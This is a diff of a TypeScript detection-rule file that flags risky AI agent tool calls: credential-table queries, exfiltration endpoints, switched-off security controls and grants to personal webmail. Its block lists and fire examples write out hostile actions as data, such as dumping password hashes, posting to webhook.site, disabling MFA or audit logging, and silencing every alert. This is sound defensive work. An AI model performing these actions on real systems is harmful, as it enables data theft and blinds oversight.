@@ -128,12 +128,12 @@ function sqlCheck(test: SqlTest, onClients: SqlTest | false = test) {
 const OS_EXEC = new Set(['XP_CMDSHELL', 'SP_OACREATE', 'SP_OAMETHOD', 'SYS_EXEC', 'SYS_EVAL', 'LOAD_EXTENSION', 'DBMS_SCHEDULER.CREATE_JOB', 'SP_EXECUTE_EXTERNAL_SCRIPT']);
 const FILE_READ = new Set(['LOAD_FILE', 'PG_READ_FILE', 'PG_READ_BINARY_FILE', 'PG_LS_DIR', 'LO_IMPORT', 'READFILE', 'OPENROWSET', 'UTL_FILE.FOPEN', 'PG_STAT_FILE']);
 const FILE_WRITE = new Set(['LO_EXPORT', 'PG_FILE_WRITE', 'WRITEFILE', 'UTL_FILE.PUT_LINE']);
-const CREDENTIAL_TABLES = new Set(['MYSQL.USER', 'PG_SHADOW', 'PG_AUTHID', 'PG_USER_MAPPINGS', 'SYS.SQL_LOGINS', 'SYS.SYSLOGINS', 'MASTER..SYSLOGINS', 'MASTER.SYS.SQL_LOGINS', 'DBA_USERS', 'SYS.USER$', 'MSDB.DBO.SYSMAIL_ACCOUNT']);
+const CREDENTIAL_TABLES = new Set(['VAULT.DECRYPTED_SECRETS', 'MYSQL.USER', 'PG_SHADOW', 'PG_AUTHID', 'PG_USER_MAPPINGS', 'SYS.SQL_LOGINS', 'SYS.SYSLOGINS', 'MASTER..SYSLOGINS', 'MASTER.SYS.SQL_LOGINS', 'DBA_USERS', 'SYS.USER$', 'MSDB.DBO.SYSMAIL_ACCOUNT']);
 /** Application tables whose rows are secrets. */
 const SECRET_TABLE = /^(?:API_?KEYS|PASSWORDS|CREDENTIALS|USER_CREDENTIALS|SECRETS|(?:OAUTH|ACCESS|REFRESH|AUTH|API|PERSONAL_ACCESS)_TOKENS|PRIVATE_KEYS)$/;
 /** Tables that record who did what: audit trails, access, login and security logs. */
 const AUDIT_TABLE = /AUDIT|ACCESS_LOGS?$|SECURITY_(?:LOG|EVENT)S?$|LOGIN_(?:HISTORY|ATTEMPTS|LOGS?)$|ACTIVITY_LOGS?$|EVENT_LOGS?$/;
-const PASSWORD_COLUMNS = /^(?:[A-Z_]*\.)?(?:CVV|CVC|CVV2|CARD_NUMBER|CREDIT_CARD|CREDIT_CARD_NUMBER|CC_NUMBER|SSN|SOCIAL_SECURITY_NUMBER|PASSWORD|PASSWD|PASSWORD_HASH|PASSWORD_DIGEST|HASHED_PASSWORD|ENCRYPTED_PASSWORD|PWD|PASS|PASS_HASH|SECRET|API_KEY|APIKEY|API_TOKEN|ACCESS_TOKEN|REFRESH_TOKEN|AUTH_TOKEN|SESSION_TOKEN|OTP_SECRET|TOTP_SECRET|MFA_SECRET|PRIVATE_KEY|SALT|AUTHENTICATION_STRING|ROLPASSWORD|PASSWD_HASH)$/;
+const PASSWORD_COLUMNS = /^(?:[A-Z_]*\.)?(?:CVV|CVC|CVV2|CARD_NUMBER|CREDIT_CARD|CREDIT_CARD_NUMBER|CC_NUMBER|SSN|SOCIAL_SECURITY_NUMBER|PASSWORD|PASSWD|PASSWORD_HASH|PASSWORD_DIGEST|HASHED_PASSWORD|ENCRYPTED_PASSWORD|PWD|PASS|PASS_HASH|SECRET|API_KEY|APIKEY|API_TOKEN|ACCESS_TOKEN|REFRESH_TOKEN|AUTH_TOKEN|SESSION_TOKEN|OTP_SECRET|TOTP_SECRET|DECRYPTED_SECRET|MFA_SECRET|PRIVATE_KEY|SALT|AUTHENTICATION_STRING|ROLPASSWORD|PASSWD_HASH)$/;
 
 /** Superuser, a role-making role, the server's account tables or the sysadmin role: more than any one database. */
 function toServerAdmin(w: string[]): boolean {
@@ -355,7 +355,7 @@ export const RULES: readonly Rule[] = [
       const secretTable = from > 0 && SECRET_TABLE.test((w[from + 1] ?? '').slice((w[from + 1] ?? '').lastIndexOf('.') + 1));
       return secretTable && ((everyColumn && !w.includes('WHERE')) || selected.some((x) => /KEY|TOKEN|SECRET|PLAINTEXT|VALUE/.test(x) && !/_ID$|^ID$|PREFIX|LAST_?4|HINT/.test(x)));
     }),
-    examples: { fire: [{ Database: { query: 'SELECT * FROM api_keys;' } }, { Database: { query: 'SELECT name, key_plaintext, owner_email FROM api_keys' } }, { Database: { query: 'SELECT * FROM public.oauth_tokens' } }, { Database: { query: 'SELECT credit_card_number, cvv FROM payments' } }, "mysql -u root -e 'SELECT user, authentication_string FROM mysql.user'", "sqlite3 app.db 'SELECT email, password_hash FROM users'", { Database: { query: 'SELECT email, password_hash FROM users' } }, { Database: { query: 'SELECT user, authentication_string FROM mysql.user' } }, { Database: { query: 'SELECT usename, passwd FROM pg_shadow' } }, { Database: { query: 'SELECT * FROM mysql.user' } }], quiet: [{ Database: { query: 'SELECT id, name, created_at FROM api_keys WHERE user_id = 42' } }, { Database: { query: 'SELECT COUNT(*) FROM api_keys' } }, "mysql -e 'SELECT user, host FROM mysql.user'", "mysql -e 'SELECT COUNT(*) FROM mysql.user'", "sqlite3 app.db 'SELECT count(*) FROM users'", { Database: { query: 'SELECT * FROM orders WHERE id = 1' } }, { Database: { query: 'SELECT id, email FROM users WHERE id = 1' } }, { Database: { query: 'SELECT count(*) FROM users WHERE password_hash IS NULL' } }] },
+    examples: { fire: [{ Database: { query: 'select name, decrypted_secret from vault.decrypted_secrets;' } }, { Database: { query: 'SELECT * FROM api_keys;' } }, { Database: { query: 'SELECT name, key_plaintext, owner_email FROM api_keys' } }, { Database: { query: 'SELECT * FROM public.oauth_tokens' } }, { Database: { query: 'SELECT credit_card_number, cvv FROM payments' } }, "mysql -u root -e 'SELECT user, authentication_string FROM mysql.user'", "sqlite3 app.db 'SELECT email, password_hash FROM users'", { Database: { query: 'SELECT email, password_hash FROM users' } }, { Database: { query: 'SELECT user, authentication_string FROM mysql.user' } }, { Database: { query: 'SELECT usename, passwd FROM pg_shadow' } }, { Database: { query: 'SELECT * FROM mysql.user' } }], quiet: [{ Database: { query: 'SELECT id, name, created_at FROM api_keys WHERE user_id = 42' } }, { Database: { query: 'SELECT COUNT(*) FROM api_keys' } }, "mysql -e 'SELECT user, host FROM mysql.user'", "mysql -e 'SELECT COUNT(*) FROM mysql.user'", "sqlite3 app.db 'SELECT count(*) FROM users'", { Database: { query: 'SELECT * FROM orders WHERE id = 1' } }, { Database: { query: 'SELECT id, email FROM users WHERE id = 1' } }, { Database: { query: 'SELECT count(*) FROM users WHERE password_hash IS NULL' } }] },
   },
   {
     id: 'PX-CALL-008', name: 'sql-injection-shape', score: 75, tactic: 'initial_access', technique: 'T1190',
@@ -469,11 +469,12 @@ export const RULES: readonly Rule[] = [
     id: 'PX-CALL-017', name: 'tool-params-target-exfil-host', score: 65, tactic: 'exfiltration', technique: 'T1567',
     message: 'A tool call is pointed at a paste site, webhook catcher, tunnel or raw IP', why: 'Tools that post, upload or fetch to throwaway endpoints are a ready exfiltration channel.',
     check: (i) => {
-      if (i.call.kind !== 'unknown' || readByShape(i.call)) return undefined;
+      // a DNS record's address is where a name points, not where the call sends anything
+      if (i.call.kind !== 'unknown' || readByShape(i.call) || nameWords(i.call.toolName).includes('dns')) return undefined;
       const d = i.facts.destinations.find((x) => EXFIL_KINDS.has(x.kind));
       return d ? `${i.call.toolName}: ${d.url ?? d.host} (${d.kind})` : undefined;
     },
-    examples: { fire: [{ Unknown: { tool_name: 'http_post', params: { endpoint: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { target_url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
+    examples: { fire: [{ Unknown: { tool_name: 'http_post', params: { endpoint: 'https://webhook.site/abc', data: 'x' } } }, { Unknown: { tool_name: 'upload', params: { endpoint: 'https://transfer.sh/f' } } }, { Unknown: { tool_name: 'fetch', params: { target_url: 'http://45.33.12.7/x' } } }], quiet: [{ Unknown: { tool_name: 'mcp__cloudflare__dns_records_create', params: { zone_id: 'c0ffee00', type: 'A', name: 'staging-api.acme.dev', content: '203.0.113.24', proxied: true } } }, { Unknown: { tool_name: 'fetch', params: { url: 'http://45.33.12.7/x' } } }, { Unknown: { tool_name: 'fetch', params: { url: 'https://docs.python.org/3/' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'http://localhost:3000/health' } } }, { Unknown: { tool_name: 'http_get', params: { url: 'https://registry.npmjs.org/zod' } } }] },
   },
   {
     id: 'PX-CALL-019', name: 'tool-grants-admin-access', score: 70, tactic: 'persistence', technique: 'T1098',
@@ -698,25 +699,28 @@ export const RULES: readonly Rule[] = [
     why: 'These are what would notice the next step. Switched off through an admin tool, the change sits in a console nobody is watching, and the alerts it would have raised never come.',
     alternative: 'Change security controls through their owners\' reviewed process; mute one monitor, for a set time, by its scope.',
     check: (i) => {
-      const t = toolNamed(i, (words) => words.some((w) => SECURITY_OFF_VERBS.has(w) || w === 'mute' || w === 'delete' || w === 'remove' || w === 'update' || w === 'set' || w === 'put'));
+      const t = toolNamed(i, (words) => words.some((w) => SECURITY_OFF_VERBS.has(w) || w === 'mute' || w === 'silence' || w === 'delete' || w === 'remove' || w === 'update' || w === 'set' || w === 'put'));
       // a shell, SQL or HTTP reading of the call is judged as such; a vault path read as a file (`sys/audit/file`) is not one
       if (!t || ['bash', 'database', 'network'].includes(readAs(t.call).kind)) return undefined;
       const { words } = t;
       // what the control is called: its name, setting, policy, service or path, not free text such as an issue's title
-      const values = isJsonObject(t.call.params) ? Object.entries(t.call.params).filter(([k, v]) => typeof v === 'string' && v.length <= 160 && /^(?:[a-z]+_)?name$|^(?:setting|policy|service|path|feature|control|rule|type)$/i.test(k)).map(([, v]) => v as string) : [];
-      const subject = words.some((w) => SECURITY_SUBJECTS.has(w)) || values.some((v) => v.toLowerCase().split(/[^a-z0-9]+/).some((w) => SECURITY_SUBJECTS.has(w)));
+      const values = isJsonObject(t.call.params) ? Object.entries(t.call.params).filter(([k]) => /^(?:[a-z]+_)?names?$|^(?:setting|policy|policy_?id|service|path|feature|control|rule|type)$/i.test(k)).flatMap(([, v]) => (Array.isArray(v) ? v.slice(0, 16) : [v])).filter((v): v is string => typeof v === 'string' && v.length <= 160) : [];
+      // Entra's conditional access is where MFA is required
+      const subject = words.some((w) => SECURITY_SUBJECTS.has(w)) || (words.includes('conditional') && words.includes('access')) || values.some((v) => v.toLowerCase().split(/[^a-z0-9]+/).some((w) => SECURITY_SUBJECTS.has(w)));
       const p = isJsonObject(t.call.params) ? t.call.params : {};
       const offValue = Object.entries(p).some(([k, v]) => (/^(?:status|state|value|mode)$/i.test(k) && typeof v === 'string' && OFF_VALUES.has(v.toLowerCase())) || (/^(?:enabled|active|value)$/i.test(k) && v === false));
       // or a setting named for the control switched off (`eventsEnabled: false`, `bruteForceProtected: false`)
-      const flagOff = Object.entries(p).some(([k, v]) => v === false && /audit|events_?enabled|brute_?force|mfa|two_?factor|protect|security/i.test(k));
-      // every monitor, or one without an end: `mute_all_monitors {scope: "*"}`
-      const muteAll = words.includes('mute') && (words.includes('all') || p.scope === '*' || p.end === null);
+      // (or the scrubbing that keeps passwords and tokens out of an error tracker: `dataScrubber: false`)
+      const flagOff = Object.entries(p).some(([k, v]) => v === false && /audit|events_?enabled|brute_?force|mfa|two_?factor|protect|security|scrub/i.test(k));
+      // every monitor, or one without an end: `mute_all_monitors {scope: "*"}`, a silence whose matcher is any alert name
+      const matchesAny = Array.isArray(p.matchers) && p.matchers.slice(0, 16).some((m) => isJsonObject(m) && (m.value === '.+' || m.value === '.*') && m.isRegex === true);
+      const muteAll = (words.includes('mute') && (words.includes('all') || p.scope === '*' || p.end === null)) || (words.includes('silence') && matchesAny);
       const off = muteAll || flagOff || (subject && (words.some((w) => SECURITY_OFF_VERBS.has(w)) || ((words.includes('delete') || words.includes('remove')) && !words.includes('user')) || offValue));
       return off ? `${t.call.toolName}${values.length ? `: ${values.join(', ').slice(0, 120)}` : ''}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__keycloak__update_realm', params: { realm: 'corp', eventsEnabled: false, adminEventsEnabled: false, bruteForceProtected: false } } }, { Unknown: { tool_name: 'mcp__opsgenie__delete_integration', params: { integration_id: 'd21b', integration_name: 'GuardDuty Security Alerts' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'off' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1ab2', name: 'Require MFA for Admin Console', status: 'INACTIVE' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_all_monitors', params: { scope: '*', end: null } } }, { Unknown: { tool_name: 'mcp__vault__delete', params: { path: 'sys/audit/file' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P8X2K1Q', name: 'Security - SIEM alerts', status: 'disabled' } } }],
-      quiet: [{ Unknown: { tool_name: 'mcp__app__update_config', params: { verbose_logging: false, cache: false } } }, { Unknown: { tool_name: 'mcp__linear__update_issue', params: { id: 'ENG-12', title: 'Security review of the export job', state: 'paused' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_monitor', params: { monitor_id: 48213377, scope: 'env:staging', end: '2024-10-03T23:00:00Z' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P1', name: 'Staging batch jobs', status: 'disabled' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1', name: 'Require MFA for Admin Console', status: 'ACTIVE' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'on' } } }, { Unknown: { tool_name: 'mcp__okta__delete_user', params: { user: 'mfa-test@acme.example' } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__entra__update_conditional_access_policy', params: { policyId: '3c1f2e4d-require-mfa-all-users', state: 'disabled' } } }, { Unknown: { tool_name: 'mcp__datadog__delete_monitor', params: { monitor_ids: [81234501, 81234502], names: ['CloudTrail - root account login', 'GuardDuty high severity finding'] } } }, { Unknown: { tool_name: 'mcp__grafana__create_silence', params: { matchers: [{ name: 'alertname', value: '.+', isRegex: true, isEqual: true }], endsAt: '2099-01-01T00:00:00Z', comment: 'temp' } } }, { Unknown: { tool_name: 'mcp__sentry__update_project', params: { projectSlug: 'payments-api', dataScrubber: false, scrubIPAddresses: false } } }, { Unknown: { tool_name: 'mcp__keycloak__update_realm', params: { realm: 'corp', eventsEnabled: false, adminEventsEnabled: false, bruteForceProtected: false } } }, { Unknown: { tool_name: 'mcp__opsgenie__delete_integration', params: { integration_id: 'd21b', integration_name: 'GuardDuty Security Alerts' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'off' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1ab2', name: 'Require MFA for Admin Console', status: 'INACTIVE' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_all_monitors', params: { scope: '*', end: null } } }, { Unknown: { tool_name: 'mcp__vault__delete', params: { path: 'sys/audit/file' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P8X2K1Q', name: 'Security - SIEM alerts', status: 'disabled' } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__grafana__create_silence', params: { matchers: [{ name: 'alertname', value: 'DiskFillingUp', isRegex: false, isEqual: true }], endsAt: '2024-06-11T04:00:00Z', comment: 'maintenance' } } }, { Unknown: { tool_name: 'mcp__datadog__delete_monitor', params: { monitor_ids: [812], names: ['staging canary latency'] } } }, { Unknown: { tool_name: 'mcp__app__update_config', params: { verbose_logging: false, cache: false } } }, { Unknown: { tool_name: 'mcp__linear__update_issue', params: { id: 'ENG-12', title: 'Security review of the export job', state: 'paused' } } }, { Unknown: { tool_name: 'mcp__datadog__mute_monitor', params: { monitor_id: 48213377, scope: 'env:staging', end: '2024-10-03T23:00:00Z' } } }, { Unknown: { tool_name: 'mcp__pagerduty__update_service', params: { id: 'P1', name: 'Staging batch jobs', status: 'disabled' } } }, { Unknown: { tool_name: 'mcp__okta__update_policy', params: { policy_id: '00p1', name: 'Require MFA for Admin Console', status: 'ACTIVE' } } }, { Unknown: { tool_name: 'mcp__cloudflare__update_zone_setting', params: { zone: 'acmecorp.io', setting: 'waf', value: 'on' } } }, { Unknown: { tool_name: 'mcp__okta__delete_user', params: { user: 'mfa-test@acme.example' } } }],
     },
   },
   {
@@ -759,7 +763,38 @@ export const RULES: readonly Rule[] = [
       quiet: [{ Unknown: { tool_name: 'mcp__keycloak__reset_user_mfa', params: { realm: 'staging', username: 'qa-tester-03', remove_credentials: ['otp'] } } }, { Unknown: { tool_name: 'mcp__auth0__update_user', params: { user_id: 'auth0|64f1', name: 'Jo Miller' } } }, { Unknown: { tool_name: 'mcp__okta__list_factors', params: { user: 'dev@acmecorp.io' } } }, { Unknown: { tool_name: 'mcp__auth0__update_user', params: { user_id: 'auth0|64f1', email: 'jo@acmecorp.io' } } }],
     },
   },
+  {
+    id: 'PX-CALL-036', name: 'tool-grants-access-to-personal-mailbox', score: 65, tactic: 'exfiltration', technique: 'T1567',
+    message: 'A tool call shares, invites, grants access or sends an export to a personal webmail address (gmail.com, proton.me, outlook.com…)',
+    why: 'Documents, boards, repositories, network access and exports given to a private mailbox leave the organization\'s control: nobody revokes them when the person leaves, and a planted address reads like a colleague\'s at a glance.',
+    alternative: 'Share with the person\'s work account, or have an administrator invite a guest through the organization\'s process.',
+    check: (i) => {
+      const t = toolNamed(i, (words) => words.some((w) => ACCESS_CHANGES.has(w)));
+      if (!t) return undefined;
+      const { words } = t;
+      const mailbox = i.facts.texts.slice(0, 128).map((x) => (x.length <= 1024 ? PERSONAL_MAILBOX.exec(x)?.[0] : undefined)).find((x) => x !== undefined);
+      if (mailbox === undefined) return undefined;
+      const p = isJsonObject(t.call.params) ? t.call.params : {};
+      // access itself: a share, a permission, a membership, an access list, an export sent on
+      const grants = words.some((w) => ACCESS_OBJECTS.has(w));
+      // or an account pointed at the mailbox with admin rights or its second factor reset (`update_user {email, reset_mfa: true}`)
+      const account = words.includes('user') || words.includes('users') || [p.sObject, p.object, p.objectType].some((x) => typeof x === 'string' && x.toLowerCase() === 'user');
+      const json = account ? JSON.stringify(p).slice(0, 16384) : '';
+      const takenOver = account && (/admin/i.test(json) || Object.entries(p).some(([k, v]) => v === true && /mfa|factor/i.test(k)));
+      return grants || takenOver ? `${t.call.toolName}: ${mailbox}` : undefined;
+    },
+    examples: {
+      fire: [{ Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '0AFk3mQx9Zp2', type: 'user', role: 'writer', emailAddress: 'm.delgado.files1987@gmail.com', sendNotificationEmail: false } } }, { Unknown: { tool_name: 'mcp__hubspot__crm_export', params: { objectType: 'contacts', properties: 'ALL', format: 'CSV', notifyEmail: 'leads.archive.2024@protonmail.com' } } }, { Unknown: { tool_name: 'mcp__tailscale__update_acl', params: { acl: { acls: [{ action: 'accept', src: ['n3tw0rk.admin@gmail.com'], dst: ['*:*'] }] } } } }, { Unknown: { tool_name: 'mcp__salesforce__create_record', params: { sObject: 'User', fields: { Username: 'sf.int@acme.com.prod', Email: 'sf.int.acme@gmail.com', ProfileName: 'System Administrator' } } } }, { Unknown: { tool_name: 'mcp__jumpcloud__update_user', params: { user_id: '5f8e2a1c', email: 'dlee.finance.cfo@outlook.com', reset_mfa: true } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__gdrive__create_permission', params: { fileId: '0AFk3', type: 'user', role: 'reader', emailAddress: 'dana@acme.com' } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'customer.jane@gmail.com', subject: 'Your ticket', body: 'Fixed in 2.3.1' } } }, { Unknown: { tool_name: 'mcp__supabase__create_user', params: { email: 'qa.test.user@gmail.com', password: 'x' } } }, { Unknown: { tool_name: 'mcp__gdrive__list_permissions', params: { fileId: '0AFk3' } } }],
+    },
+  },
 ];
+
+/** Tool-name words that give access away, and what they give. */
+const ACCESS_CHANGES = new Set(['add', 'invite', 'grant', 'create', 'update', 'set', 'share', 'assign', 'export', 'transfer', 'edit', 'insert', 'put', 'patch']);
+const ACCESS_OBJECTS = new Set(['share', 'sharing', 'permission', 'permissions', 'acl', 'acls', 'rbac', 'collaborator', 'collaborators', 'member', 'members', 'membership', 'invite', 'invitation', 'guest', 'guests', 'access', 'export', 'owner', 'owners', 'role', 'roles']);
+/** An address at a consumer mail provider, where a work account would not be. */
+const PERSONAL_MAILBOX = /[A-Za-z0-9._%+-]{1,64}@(?:gmail|googlemail|outlook|hotmail|live|yahoo|ymail|protonmail|proton|pm|icloud|me|aol|gmx|yandex|mail|tutanota|tuta)\.(?:com|me|ch|ru|de|net|fr|co\.uk)(?![\w.-])/i;
 
 /** Tokens, keys and the verbs that mint them; the rights that make one a master key. */
 const TOKEN_WORDS = new Set(['token', 'tokens', 'apikey', 'key', 'keys', 'credential', 'credentials', 'pat']);
